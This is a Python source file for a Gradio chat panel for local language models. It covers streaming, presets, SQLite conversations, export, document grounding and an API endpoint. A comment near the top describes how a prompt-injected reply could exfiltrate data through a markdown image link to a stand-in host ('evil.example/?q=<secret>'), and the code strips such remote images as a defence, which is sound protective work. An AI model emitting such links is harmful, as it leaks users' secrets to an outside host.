"""Chat panel: streaming replies with Stop, sampling controls and presets, a model picker and
downloader, conversations kept in SQLite with a sidebar, export, regenerate and edit-and-resend.
"""

from __future__ import annotations

import json
import re
import tempfile
import time
from collections.abc import Iterator
from dataclasses import asdict, dataclass
from pathlib import Path

import gradio as gr

from conversations import Conversation, ConversationStore, StoredMessage, to_json, to_markdown
from engines.chat import models as chat_models
from engines.base import ChatEngine, ChatMessage, ChatParams, ChatStats, EngineError, InputError
from engines.priority import in_background
from server.principal import HOST, Principal
from ui.access import Access, principal_of, require_host
from ui.common import ensure_loaded, model_line, number, user_errors, whole
from ui.documents import Documents, sources_html
from ui.presets import ChatPreset, PresetError, save_preset

MAX_MESSAGE_CHARS = 100_000  # far past any local model's context; stops a runaway paste early
CONTROL_CHARS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")  # keeps \t, \n and \r
SAVE_EVERY_SECONDS = 0.5  # how often a streaming reply is written to the database
# Tokens arriving faster than this are sent to the page together: the eye cannot tell, and each update
# costs the server a render, a diff and a send that would otherwise slow generation itself.
UPDATE_EVERY_SECONDS = 1 / 20
# The page's own updates may take this share of the time a reply streams (see ChatPanel._reply), and come at
# least this often however long the conversation.
UPDATE_BUDGET = 0.03
MAX_UPDATE_SECONDS = 0.25
# A reply may load images from anywhere, and a prompt-injected reply can use that to send data out
# (![](https://evil.example/?q=<secret>)): remote images show as links instead (the page's CSP blocks them too).
REMOTE_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?(https?:)?//[^)]*\)", re.IGNORECASE)
HTML_IMAGE = re.compile(r"<\s*img\b[^>]*>", re.IGNORECASE)


def clean_message(text: str | None) -> str:
    if text is not None and not isinstance(text, str):
        raise gr.Error("The message must be text.", title="Check your input")
    message = CONTROL_CHARS.sub("", text or "").strip()
    # Only invisible characters (zero-width spaces, a byte-order mark, direction marks) is nothing to send either.
    if not any(c.isprintable() and not c.isspace() for c in message):
        raise gr.Error("The message is empty: type something to send.", title="Check your input")
    if len(message) > MAX_MESSAGE_CHARS:
        raise gr.Error(
            f"The message is {len(message):,} characters; the limit is {MAX_MESSAGE_CHARS:,}.",
            title="Check your input",
        )
    return message


def stats_line(stats: dict | ChatStats) -> str:
    s = stats if isinstance(stats, ChatStats) else ChatStats(**stats)
    if s.finish_reason == "cancelled" and not s.completion_tokens:
        return "stopped"
    line = f"{s.completion_tokens} tokens · {s.tokens_per_second:.1f} tok/s"
    if s.first_token_seconds is not None:
        line += f" · first token after {s.first_token_seconds * 1000:.0f} ms"
    if s.finish_reason == "length":
        line += " · stopped at the max new tokens limit"
    elif s.finish_reason == "cancelled":
        line += " · stopped"
    if s.dropped_messages:
        line += f" · the {s.dropped_messages} oldest messages did not fit the context and were left out"
    return line


def without_remote_images(text: str) -> str:
    text = REMOTE_IMAGE.sub(lambda m: f"[image: {m.group(1) or 'remote image'} (not loaded)]", text)
    return HTML_IMAGE.sub("[image (not loaded)]", text)


def to_chatbot(messages: list[StoredMessage], remote_images: bool = False) -> list[dict]:
    shown = []
    for m in messages:
        content = m.content if remote_images or m.role != "assistant" else without_remote_images(m.content)
        if m.role == "assistant" and m.stats:
            content += f"\n\n<sub>{stats_line(m.stats)}</sub>"
        shown.append({"role": m.role, "content": content})
    return shown


@dataclass(frozen=True)
class Sampling:
    """The settings controls, in the order the handlers receive them."""

    system_prompt: str
    temperature: float
    top_p: float
    top_k: float
    repeat_penalty: float
    max_tokens: float
    seed: float | None
    preset: str | None = None  # the preset the controls started from, kept with the conversation

    def params(self) -> ChatParams:
        if len(self.system_prompt or "") > MAX_MESSAGE_CHARS:
            raise gr.Error(
                f"The system prompt is {len(self.system_prompt):,} characters; the limit is {MAX_MESSAGE_CHARS:,}.",
                title="Check your input",
            )
        params = ChatParams(
            temperature=number(self.temperature, "Temperature"),
            top_p=number(self.top_p, "Top-p"),
            top_k=whole(self.top_k, "Top-k"),
            repeat_penalty=number(self.repeat_penalty, "Repeat penalty"),
            max_tokens=whole(self.max_tokens, "Max new tokens"),
            seed=whole(self.seed, "The seed", " (-1 for a random one)"),
        )
        with user_errors():
            params.check()
        return params


class ChatPanel:
    """The handlers, bound to one engine and one store. Plain methods: tests call them directly."""

    def __init__(
        self,
        engine: ChatEngine,
        store: ConversationStore,
        models_dir: Path,
        presets: list[ChatPreset],
        user_presets_dir: Path,
        access: Access | None = None,
        remote_images: bool = False,
        documents: Documents | None = None,
    ) -> None:
        self.engine = engine
        self.documents = documents
        self.store = store
        self.models_dir = models_dir
        self.presets = {p.name: p for p in presets}
        self.user_presets_dir = user_presets_dir
        self.access = access or Access()
        self.remote_images = remote_images

    def chatbot(self, messages: list[StoredMessage], conversation_id: str | None = None) -> list[dict]:
        shown = to_chatbot(messages, self.remote_images)
        if self.documents is not None and conversation_id is not None:  # each answer's sources under it
            sources = self.documents.sources(conversation_id, [m.id for m in messages if m.role == "assistant"])
            for m, item in zip(messages, shown):
                if m.role == "assistant" and sources.get(m.id):
                    item["content"] += without_remote_images(sources_html(sources[m.id]))
        return shown

    def sources_under(self, reply_id: int, conversation_id: str) -> str:
        """What ``chatbot`` puts under this reply: its sources, or nothing."""
        if self.documents is None:
            return ""
        sources = self.documents.sources(conversation_id, [reply_id]).get(reply_id)
        return without_remote_images(sources_html(sources)) if sources else ""

    # ---------------------------------------------------------------- conversations

    def conversation(self, conversation_id: str | None, principal: Principal = HOST) -> Conversation:
        """The conversation if this person may see it; someone else's answers exactly like a missing one."""
        try:
            return self.store.get(conversation_id, None if principal.is_host else principal.owner)
        except KeyError:
            raise gr.Error(f"There is no conversation {conversation_id}.", title="Not found") from None

    def history_choices(self, principal: Principal = HOST) -> list[tuple[str, str]]:
        """This person's conversations; the host's list has everyone's, a guest's marked with their name."""
        mine = principal.owner
        return [
            (c.title if c.owner == mine else f"{c.title} · {c.owner.removeprefix('guest:')}", c.id)
            for c in self.store.list(None if principal.is_host else mine)
        ]

    def history_update(self, selected: str | None, principal: Principal = HOST) -> dict:
        return gr.update(choices=self.history_choices(principal), value=selected)

    def open_conversation(self, conversation_id: str | None, principal: Principal = HOST):
        if conversation_id is None:
            return [], None, "", ""
        title = self.conversation(conversation_id, principal).title
        messages = self.store.messages(conversation_id)
        last = next((m for m in reversed(messages) if m.role == "assistant" and m.stats), None)
        return self.chatbot(messages, conversation_id), conversation_id, title, stats_line(last.stats) if last else ""

    def rename(self, conversation_id: str | None, title: str, principal: Principal = HOST):
        if conversation_id is None:
            raise gr.Error("Open a conversation to rename it.", title="Nothing to rename")
        if not title.strip():
            raise gr.Error("The new name is empty.", title="Check your input")
        self.conversation(conversation_id, principal)
        self.store.rename(conversation_id, title)
        return self.history_update(conversation_id, principal)

    def delete(self, conversation_id: str | None, principal: Principal = HOST):
        if conversation_id is not None:
            self.conversation(conversation_id, principal)
            self.store.delete(conversation_id)
            if self.documents is not None:
                self.documents.forget(conversation_id)
        return self.history_update(None, principal), [], None, "", ""

    def export(self, conversation_id: str | None, principal: Principal = HOST) -> list[str]:
        if conversation_id is None:
            raise gr.Error("Open a conversation to export it.", title="Nothing to export")
        conversation = self.conversation(conversation_id, principal)
        messages = self.store.messages(conversation_id)
        if self.access.data_dir is not None:
            base = self.access.folder("exports", principal)
            base.mkdir(parents=True, exist_ok=True)
            folder = Path(tempfile.mkdtemp(prefix="chat-", dir=base))
        else:
            folder = Path(tempfile.mkdtemp(prefix="melange-export-"))
        stem = re.sub(r"[^\w-]+", "-", conversation.title).strip("-")[:40] or "conversation"
        md, js = folder / f"{stem}.md", folder / f"{stem}.json"
        texts = {md: to_markdown(conversation, messages), js: json.dumps(to_json(conversation, messages), indent=2, ensure_ascii=False)}
        for path, text in texts.items():
            partial = path.with_name(f".{path.name}.part")
            partial.write_text(text, encoding="utf-8")
            partial.replace(path)  # atomic: never half a file
        return [str(md), str(js)]

    # ---------------------------------------------------------------- generation

    def _params(self, sampling: Sampling, principal: Principal) -> ChatParams:
        params = sampling.params()
        self.access.limits.check_tokens(principal, params.max_tokens)
        return params

    def send(self, conversation_id: str | None, message: str, *controls, principal: Principal = HOST, progress=gr.Progress(), documents: list[str] | None = None):
        """Store the user's message first, then stream the reply into the page and the database. ``documents``:
        the collections chosen in the page for this conversation (None: leave them as they are)."""
        message = clean_message(message)
        sampling = Sampling(*controls)
        params = self._params(sampling, principal)
        if self.documents is not None and documents:
            for collection_id in documents:  # checked before anything is stored
                self.documents.collection(collection_id, principal)
        if conversation_id is None:
            conversation_id = self.store.create(message, owner=principal.owner).id
        else:
            self.conversation(conversation_id, principal)
        if self.documents is not None and documents is not None:
            self.documents.attach(conversation_id, documents, principal)
        self.store.add_message(conversation_id, "user", message)
        yield from self._reply(conversation_id, sampling, params, progress, clear_textbox=True, principal=principal)

    def regenerate(self, conversation_id: str | None, *controls, principal: Principal = HOST, progress=gr.Progress()):
        """Replace the last reply with a new one."""
        if conversation_id is None:
            raise gr.Error("There is no reply to regenerate yet.", title="Nothing to regenerate")
        sampling = Sampling(*controls)
        params = self._params(sampling, principal)
        self.conversation(conversation_id, principal)
        messages = self.store.messages(conversation_id)
        replaced = None
        if messages and messages[-1].role == "assistant":
            replaced = messages[-1].id  # kept until the new reply is complete: a Stop, an error or a crash leaves it
        elif not messages or messages[-1].role != "user":  # a question left unanswered is answered now
            raise gr.Error("There is no reply to regenerate yet.", title="Nothing to regenerate")
        yield from self._reply(conversation_id, sampling, params, progress, clear_textbox=False, principal=principal, replace=replaced)

    def edit(self, conversation_id: str | None, index: int, new_text: str, *controls, principal: Principal = HOST, progress=gr.Progress()):
        """Replace a user message (shown at ``index``), drop what followed it, and answer again."""
        message = clean_message(new_text)
        sampling = Sampling(*controls)
        params = self._params(sampling, principal)
        if conversation_id is not None:
            self.conversation(conversation_id, principal)
        messages = self.store.messages(conversation_id) if conversation_id is not None else []
        if not 0 <= index < len(messages) or messages[index].role != "user":
            raise gr.Error("Only your own messages can be edited.", title="Cannot edit that")
        self.store.delete_messages_from(conversation_id, messages[index].id)
        self.store.add_message(conversation_id, "user", message)
        yield from self._reply(conversation_id, sampling, params, progress, clear_textbox=False, principal=principal)

    def _reply(
        self, conversation_id: str, sampling: Sampling, params: ChatParams, progress, clear_textbox: bool,
        principal: Principal = HOST, replace: int | None = None,
    ):  # fmt: skip
        textbox = "" if clear_textbox else gr.skip()
        history = [m for m in self.store.messages(conversation_id) if m.id != replace]
        # The conversation so far is rendered once; each update adds the growing reply to it (its sources too,
        # read once: they are stored before the reply starts).
        shown = self.chatbot(history, conversation_id)
        yield shown, conversation_id, textbox, "", self.history_update(conversation_id, principal)
        ensure_loaded(self.engine, progress)
        sources: dict[int, str] = {}

        def update(reply: StoredMessage) -> tuple:
            if reply.id not in sources:
                sources[reply.id] = self.sources_under(reply.id, conversation_id)
            item = to_chatbot([reply], self.remote_images)[0]
            item["content"] += sources[reply.id]
            # The stats line under the chatbot is "" while the reply streams (set above); the other outputs are
            # skipped, which costs nothing (server/skips.py).
            return [*shown, item], gr.skip(), gr.skip(), stats_line(reply.stats) if reply.stats else "", gr.skip()

        interval, last_shown, held = UPDATE_EVERY_SECONDS, 0.0, None
        for reply in self._generate(conversation_id, history, sampling, params, replace):
            now = time.monotonic()
            if not reply.stats and now - last_shown < interval:
                held = reply
                continue
            held = None
            yield update(reply)
            # Gradio renders, diffs and sends an update before it asks for the next one: that time is what an
            # update costs, and it grows with the conversation (each update carries all of it). Updates come no
            # more often than keeps that cost within UPDATE_BUDGET of the time, so a long conversation streams
            # as fast as a short one.
            last_shown = time.monotonic()
            interval = min(MAX_UPDATE_SECONDS, max(UPDATE_EVERY_SECONDS, (last_shown - now) / UPDATE_BUDGET))
        if held is not None:  # an engine that ends without stats: its last words still show
            yield update(held)

    def _generate(
        self, conversation_id: str, history: list[StoredMessage], sampling: Sampling, params: ChatParams, replace: int | None = None
    ) -> Iterator[StoredMessage]:
        """The reply as it grows, at most ``1 / UPDATE_EVERY_SECONDS`` times a second; the last one carries
        the stats. The reply is saved as it streams; stopped or failed, the partial reply is kept. ``replace``: a
        stored reply that the new one overwrites only once complete (stopped or failed, the old one stays)."""
        settings = {
            "model": self.engine.status().model,
            "preset": sampling.preset,
            "system_prompt": sampling.system_prompt,
            **asdict(params),
        }
        self.store.update_settings(conversation_id, settings)
        prompt = [ChatMessage("system", sampling.system_prompt.strip())] if sampling.system_prompt.strip() else []
        prompt += [ChatMessage(m.role, m.content) for m in history]
        grounding = None
        if self.documents is not None:  # the chosen documents' passages go before the question
            with user_errors():
                grounding = self.documents.ground(conversation_id, prompt, params, self.engine.n_ctx)
        if grounding is not None and grounding.reply is not None:  # nothing relevant: say so, invent nothing
            if replace is None:
                reply_id = self.store.add_message(conversation_id, "assistant", grounding.reply)
            else:
                reply_id = replace
                self.store.update_message(replace, grounding.reply, None)
            self.documents.save_sources(reply_id, conversation_id, [])
            yield StoredMessage(reply_id, "assistant", grounding.reply)
            return
        if grounding is not None:
            prompt = grounding.messages
        reply_id = self.store.add_message(conversation_id, "assistant", "") if replace is None else replace
        if self.documents is not None:
            self.documents.save_sources(reply_id, conversation_id, grounding.hits if grounding else [])
        reply = StoredMessage(reply_id, "assistant", "")
        last_save = last_update = 0.0
        finished = False
        try:
            with user_errors():
                for delta in in_background(lambda: self.engine.stream(prompt, params), "melange-chat"):
                    stats = asdict(delta.stats) if delta.stats else None
                    reply = StoredMessage(reply_id, "assistant", reply.content + delta.text, stats)
                    now = time.monotonic()
                    if replace is None and (stats or now - last_save > SAVE_EVERY_SECONDS):
                        self.store.update_message(reply_id, reply.content, reply.stats)
                        last_save = now
                    if not stats and now - last_update < UPDATE_EVERY_SECONDS:
                        continue
                    last_update = now
                    yield reply
            self.store.update_message(reply_id, reply.content, reply.stats)
            finished = True
        finally:
            if not finished and replace is None:
                # Stopped, the tab closed, or the engine failed: keep the partial reply.
                if reply.content:
                    self.store.update_message(reply_id, reply.content, {"finish_reason": "cancelled"})
                else:
                    self.store.delete_messages_from(conversation_id, reply_id)

    # ---------------------------------------------------------------- API

    def api_chat(self, message: str, sampling: Sampling, conversation_id: str | None, principal: Principal = HOST) -> Iterator[dict]:
        """The ``/chat`` API: one message in, the reply streamed out as ``{"conversation_id", "reply",
        "stats"}``. Stateless between calls: no id starts a new conversation, an id continues that one. Stored
        like the page's conversations, so an API chat shows in the sidebar too."""
        message = clean_message(message)
        params = self._params(sampling, principal)
        if not conversation_id:
            conversation_id = self.store.create(message, owner=principal.owner).id
        else:
            self.conversation(conversation_id, principal)
        self.store.add_message(conversation_id, "user", message)
        history = self.store.messages(conversation_id)
        ensure_loaded(self.engine, None)
        for reply in self._generate(conversation_id, history, sampling, params):
            yield {"conversation_id": conversation_id, "reply": reply.content, "stats": reply.stats}

    # ---------------------------------------------------------------- presets and models

    def apply_preset(self, name: str):
        preset = self.presets.get(name)
        if preset is None:
            raise gr.Error(f"No preset named {name!r}.", title="Unknown preset")
        return preset.system_prompt, preset.temperature, preset.top_p, preset.top_k, preset.repeat_penalty, preset.max_tokens

    def save_preset(self, name: str, system_prompt, temperature, top_p, top_k, repeat_penalty, max_tokens, principal: Principal = HOST):
        require_host(principal, "save shared presets")
        name = (name or "").strip()
        if not name:
            raise gr.Error("Give the preset a name.", title="Check your input")
        if name in self.presets:
            raise gr.Error(f"A preset named {name!r} exists already; choose another name.", title="Check your input")
        try:
            preset = ChatPreset(
                name=name,
                system_prompt=system_prompt,
                temperature=temperature,
                top_p=top_p,
                top_k=int(top_k),
                repeat_penalty=repeat_penalty,
                max_tokens=int(max_tokens),
            )
            save_preset(self.user_presets_dir / "chat", preset)
        except (PresetError, ValueError) as e:
            raise gr.Error(str(e), title="Could not save the preset") from e
        self.presets[name] = preset
        gr.Info(f"Saved preset {name!r}.")
        return gr.update(choices=list(self.presets), value=name)

    def model_choices(self) -> list[tuple[str, str]]:
        remote = getattr(self.engine, "models", None)
        if remote is not None:  # a remote engine: the server's /v1/models
            try:
                return [(m, m) for m in remote()]
            except (EngineError, InputError):
                return []
        return [(m.name, str(m.path)) for m in chat_models.find_models(self.models_dir)]

    def switch_model(self, path: str, n_ctx: float, principal: Principal = HOST):
        require_host(principal, "switch models")
        if not path:
            raise gr.Error("Choose a model first.", title="Check your input")
        name = next((n for n, p in self.model_choices() if p == path), Path(path).name)
        with user_errors():
            self.engine.switch(path, name, int(n_ctx))
        gr.Info(f"Switched to {name}.")
        return model_line(self.engine)

    def download(self, repo_id: str, filename: str, principal: Principal = HOST, progress=gr.Progress(track_tqdm=True)):
        require_host(principal, "download models")
        progress(0.0, desc=f"Downloading {filename} from {repo_id}…")
        with user_errors():
            path = chat_models.download(repo_id, filename)
        gr.Info(f"Downloaded {path.name}.")
        choices = self.model_choices()
        if str(path) not in [p for _, p in choices]:
            choices.append((f"{repo_id}/{filename}", str(path)))
        return gr.update(choices=choices, value=str(path))


def build(
    blocks: gr.Blocks,
    engine: ChatEngine,
    presets: list[ChatPreset],
    store: ConversationStore,
    models_dir: Path,
    user_presets_dir: Path,
    access: Access | None = None,
    remote_images: bool = False,
    documents: Documents | None = None,
) -> None:
    """Lay out the chat panel inside ``blocks``; the sidebar and model list refresh on every page load."""
    panel = ChatPanel(engine, store, models_dir, presets, user_presets_dir, access, remote_images, documents)
    preset = presets[0]
    conversation_id = gr.State(None)
    with gr.Row():
        with gr.Column(scale=1, min_width=220):
            new_chat = gr.Button("New conversation", elem_id="chat-new")
            history = gr.Radio([], label="Conversations", elem_id="chat-history", type="value")
            title = gr.Textbox(label="Name", elem_id="chat-title", max_lines=1)
            with gr.Row():
                rename = gr.Button("Rename", size="sm", elem_id="chat-rename")
                delete = gr.Button("Delete", size="sm", variant="stop", elem_id="chat-delete")
            export = gr.Button("Export Markdown + JSON", size="sm", elem_id="chat-export")
            exported = gr.File(label="Export", file_count="multiple", interactive=False, elem_id="chat-exported")
        with gr.Column(scale=4):
            model_info = gr.Markdown(lambda: model_line(engine), elem_id="chat-model")
            documents_choice = gr.Dropdown(
                [], value=[], multiselect=True, label="Documents (answers come from these, with sources)",
                elem_id="chat-documents", visible=documents is not None,
            )  # fmt: skip
            chatbot = gr.Chatbot(label="Conversation", height=460, elem_id="chatbot", editable="user")
            stats = gr.Markdown(elem_id="chat-stats")
            with gr.Row():
                message = gr.Textbox(
                    placeholder="Type a message and press Enter (Shift+Enter for a new line)",
                    show_label=False,
                    scale=6,
                    elem_id="chat-input",
                    max_lines=8,
                )
                send = gr.Button("Send", variant="primary", scale=1, elem_id="chat-send")
                stop = gr.Button("Stop", variant="stop", scale=1, elem_id="chat-stop")
            with gr.Accordion("Sampling and presets", open=False, elem_id="chat-settings"):
                with gr.Row():
                    preset_choice = gr.Dropdown(list(panel.presets), value=preset.name, label="Preset", elem_id="chat-preset")
                    preset_name = gr.Textbox(label="Save current settings as", placeholder="Preset name", elem_id="chat-preset-name")
                    save = gr.Button("Save as new preset", size="sm", elem_id="chat-preset-save")
                system_prompt = gr.Textbox(preset.system_prompt, label="System prompt", lines=2)
                with gr.Row():
                    temperature = gr.Slider(0.0, 2.0, value=preset.temperature, step=0.05, label="Temperature")
                    top_p = gr.Slider(0.05, 1.0, value=preset.top_p, step=0.05, label="Top-p")
                    top_k = gr.Slider(0, 200, value=preset.top_k, step=1, label="Top-k (0: off)")
                with gr.Row():
                    repeat_penalty = gr.Slider(0.5, 2.0, value=preset.repeat_penalty, step=0.05, label="Repeat penalty")
                    max_tokens = gr.Slider(16, 4096, value=preset.max_tokens, step=16, label="Max new tokens", elem_id="chat-max-tokens")
                    seed = gr.Number(-1, precision=None, label="Seed (-1: random)")
            with gr.Accordion("Model", open=False, elem_id="chat-model-settings") as model_settings:
                with gr.Row():
                    model_choice = gr.Dropdown(panel.model_choices(), label="Model", scale=3, elem_id="chat-model-choice")
                    n_ctx = gr.Slider(512, 32768, value=engine.n_ctx, step=512, label="Context length (tokens)", scale=2)
                    use_model = gr.Button("Use this model", scale=1)
                with gr.Row():
                    repo_id = gr.Textbox(label="Hugging Face repo", placeholder="bartowski/Qwen2.5-0.5B-Instruct-GGUF", scale=3)
                    filename = gr.Textbox(label="File", placeholder="Qwen2.5-0.5B-Instruct-Q4_K_M.gguf", scale=3)
                    download = gr.Button("Download", scale=1)

    controls = [system_prompt, temperature, top_p, top_k, repeat_penalty, max_tokens, seed, preset_choice]
    outputs = [chatbot, conversation_id, message, stats, history]
    refresh_model = {"fn": lambda: model_line(engine), "inputs": None, "outputs": model_info, "api_visibility": "private"}

    # gr.Request comes first: Gradio fills it by position, and after *values it would never arrive.
    def on_send(request: gr.Request, conv_id, text, chosen, *values, progress=gr.Progress()):
        yield from panel.send(conv_id, text, *values, principal=principal_of(request), progress=progress, documents=chosen)

    def on_retry(request: gr.Request, conv_id, *values, progress=gr.Progress()):
        yield from panel.regenerate(conv_id, *values, principal=principal_of(request), progress=progress)

    def on_edit(request: gr.Request, conv_id, *values, data: gr.EditData, progress=gr.Progress()):
        yield from panel.edit(conv_id, data.index, data.value, *values, principal=principal_of(request), progress=progress)

    private = {"concurrency_id": "chat", "api_visibility": "private"}
    events = [
        message.submit(on_send, [conversation_id, message, documents_choice, *controls], outputs, **private),
        send.click(on_send, [conversation_id, message, documents_choice, *controls], outputs, **private),
        chatbot.retry(on_retry, [conversation_id, *controls], outputs, **private),
        chatbot.edit(on_edit, [conversation_id, *controls], outputs, **private),
    ]
    for event in events:
        event.then(**refresh_model)
    stop.click(None, None, None, cancels=events)

    def on_open(request: gr.Request, conv_id):
        return panel.open_conversation(conv_id, principal_of(request))

    def on_rename(request: gr.Request, conv_id, new_title):
        return panel.rename(conv_id, new_title, principal_of(request))

    def on_delete(request: gr.Request, conv_id):
        return panel.delete(conv_id, principal_of(request))

    def on_export(request: gr.Request, conv_id):
        return panel.export(conv_id, principal_of(request))

    def on_load(request: gr.Request):
        principal = principal_of(request)
        host_only = gr.update(visible=principal.is_host)
        choices = gr.update(choices=panel.model_choices()) if principal.is_host else gr.skip()
        return panel.history_update(None, principal), choices, host_only, host_only, host_only

    def on_save(request: gr.Request, *values):
        return panel.save_preset(*values, principal=principal_of(request))

    def on_switch(request: gr.Request, path, context):
        return panel.switch_model(path, context, principal_of(request))

    def on_download(request: gr.Request, repo, name, progress=gr.Progress(track_tqdm=True)):
        return panel.download(repo, name, principal_of(request), progress)

    page_only = {"api_visibility": "private"}
    opened = [chatbot, conversation_id, title, stats]
    new_chat.click(lambda: ([], None, "", "", gr.update(value=None)), None, [*opened, history], cancels=events, **page_only)
    history.input(on_open, history, opened, cancels=events, **page_only)
    rename.click(on_rename, [conversation_id, title], history, **page_only)
    delete.click(on_delete, conversation_id, [history, *opened], cancels=events, **page_only)
    export.click(on_export, conversation_id, exported, **page_only)
    chatbot.clear(lambda: (None, "", "", gr.update(value=None)), None, [conversation_id, title, stats, history], cancels=events, **page_only)

    if documents is not None:  # the documents a conversation asks: shown when it opens, kept when changed

        def documents_of(request: gr.Request, conv_id):
            principal = principal_of(request)
            attached = documents.attached(conv_id) if conv_id and panel.store.exists(conv_id, None if principal.is_host else principal.owner) else []
            return gr.update(choices=documents.choices(principal), value=attached)

        def refresh_choices(request: gr.Request):  # collections made in the Documents tab since the page loaded
            return gr.update(choices=documents.choices(principal_of(request)))

        def on_choose(request: gr.Request, conv_id, chosen):
            if conv_id is not None:  # a new conversation takes the choice with its first message
                panel.conversation(conv_id, principal_of(request))
                documents.attach(conv_id, chosen, principal_of(request))

        history.input(documents_of, history, documents_choice, **page_only)
        for cleared in (new_chat.click, delete.click, chatbot.clear):
            cleared(lambda: gr.update(value=[]), None, documents_choice, **page_only)
        documents_choice.focus(refresh_choices, None, documents_choice, **page_only)
        documents_choice.input(on_choose, [conversation_id, documents_choice], None, **page_only)
        blocks.load(refresh_choices, None, documents_choice, **page_only)

    blocks.load(on_load, None, [history, model_choice, model_settings, preset_name, save], **page_only)
    preset_choice.input(panel.apply_preset, preset_choice, controls[:6], **page_only)
    save.click(on_save, [preset_name, *controls[:6]], preset_choice, **page_only)
    use_model.click(on_switch, [model_choice, n_ctx], model_info, concurrency_id="chat", **page_only)
    download.click(on_download, [repo_id, filename], model_choice, **page_only)

    # The API's own endpoint: plain values in, just the reply out, in the same queue as the page's messages.
    # The page's event sends the whole conversation on every update; an API caller wants the reply.
    def chat(
        message: str,
        system_prompt: str = preset.system_prompt,
        temperature: float = preset.temperature,
        top_p: float = preset.top_p,
        top_k: int = preset.top_k,
        repeat_penalty: float = preset.repeat_penalty,
        max_tokens: int = preset.max_tokens,
        seed: int = -1,
        conversation_id: str | None = None,
        request: gr.Request = None,
    ) -> Iterator[dict]:
        """Send a message and stream the reply as {"conversation_id", "reply", "stats"}; the last update carries
        the token stats. Leave conversation_id empty to start a conversation, pass it back to continue one."""
        sampling = Sampling(system_prompt, temperature, top_p, top_k, repeat_penalty, max_tokens, seed, preset=None)
        yield from panel.api_chat(message, sampling, conversation_id, principal_of(request))

    gr.api(chat, api_name="chat", concurrency_id="chat")
